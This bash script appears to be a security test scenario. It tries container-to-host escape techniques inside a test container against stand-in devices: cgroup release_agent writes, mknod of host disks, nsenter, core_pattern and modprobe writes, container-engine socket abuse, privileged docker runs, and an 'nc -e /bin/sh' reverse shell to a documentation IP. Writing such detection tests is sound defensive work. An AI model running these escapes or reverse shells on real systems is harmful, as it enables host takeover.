#!/bin/bash
# containers: yes
# From a container to its host: what is tried from inside (in a container made for it, at stand-ins for disks), and what
# is asked of a container engine (that is not there).
. /usr/local/lib/scenario.sh
. /usr/local/lib/inside.sh
set -u

cat >/usr/local/lib/attack <<INSIDE
#!/bin/bash
. /usr/local/lib/scenario.sh
mkdir -p /mnt/disk /dev/mapper
for disk in sda vda1 xvda nvme0n1 dm-0 mapper/root; do
    : >/dev/\$disk
    : >/mnt/at
    mount --bind /dev/\$disk /mnt/at
    umount /mnt/at
done
mount -t cgroup -o memory cgroup /mnt/disk && : >>/mnt/disk/release_agent
umount /mnt/disk
unshare --mount true
unshare --user true
nsenter --mount=/proc/self/ns/mnt true
mknod /dev/host b 8 0
for number in 2303 64512 131071 8388608 8388863 264241152; do
    perl -e "my \\\$file = '/dev/host\$number'; syscall($MKNOD, \\\$file, 060600, \$number)"
done
head -1 /proc/1/root/etc/hostname
for name in debugfs xfs_db e2fsck fsck.ext4; do
    play "\$name" /dev/host
done
for name in apt apt-get apk dnf microdnf yum zypper pip pip3; do
    play "\$name" install tool
done
play apk add tool
# Also seen on a host: a dropped program, a shell on the network, modules, packets, taken-over processes.
cp /bin/true /usr/local/bin/dropped
/usr/local/bin/dropped
play nc -e /bin/sh 198.51.100.7 4444
perl_as bash -e 'socket(S, 2, 2, 0); connect(S, pack("S n C4 x8", 2, 4444, 127, 0, 0, 1)); syscall(33, fileno(S), 0)'
perl -e "my \\\$text = 'no module'; my \\\$none = ''; syscall($INIT_MODULE, \\\$text, 9, \\\$none); socket(S, 17, 3, 0x300)"
INSIDE
cat >/usr/local/lib/terminal <<'INSIDE'
#!/bin/bash
for name in sh bash dash ash zsh ksh mksh csh tcsh fish; do
    /usr/local/as/true/$name
done
INSIDE
chmod 0755 /usr/local/lib/attack /usr/local/lib/terminal

in_container false /usr/local/lib/attack
in_container true /usr/local/lib/terminal

for where in '-t 1 -m' '-t1 -m' '-m -t 1' '--target 1 -m' '--target=1 -m'; do
    play nsenter $where
done
for file in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /sys/kernel/uevent_helper; do
    [ -e "$file" ] && : >>"$file"
done
perl -e "open(F, '>>/proc/self/exe'); my \$file = '/proc/self/exe'; syscall($OPEN, \$file, 1);
    my \$how = pack('Q3', 1, 0, 0); syscall($OPENAT2, -100, \$file, \$how, 24)"
for name in docker.sock containerd.sock crio.sock podman.sock; do
    perl -e 'socket(L, 1, 1, 0); bind(L, pack("S a108", 1, $ARGV[0])); listen(L, 5);
        socket(S, 1, 1, 0); connect(S, pack("S a108", 1, $ARGV[0])); unlink $ARGV[0]' "/run/$name"
done
for name in docker podman nerdctl; do
    play "$name" run --privileged alpine
done
play docker create --pid=host alpine
for option in '--pid host' '-v /:/host' '--volume /:/host' '--mount type=bind,source=/,target=/host'; do
    play docker run $option alpine
done
rm /usr/local/lib/attack /usr/local/lib/terminal
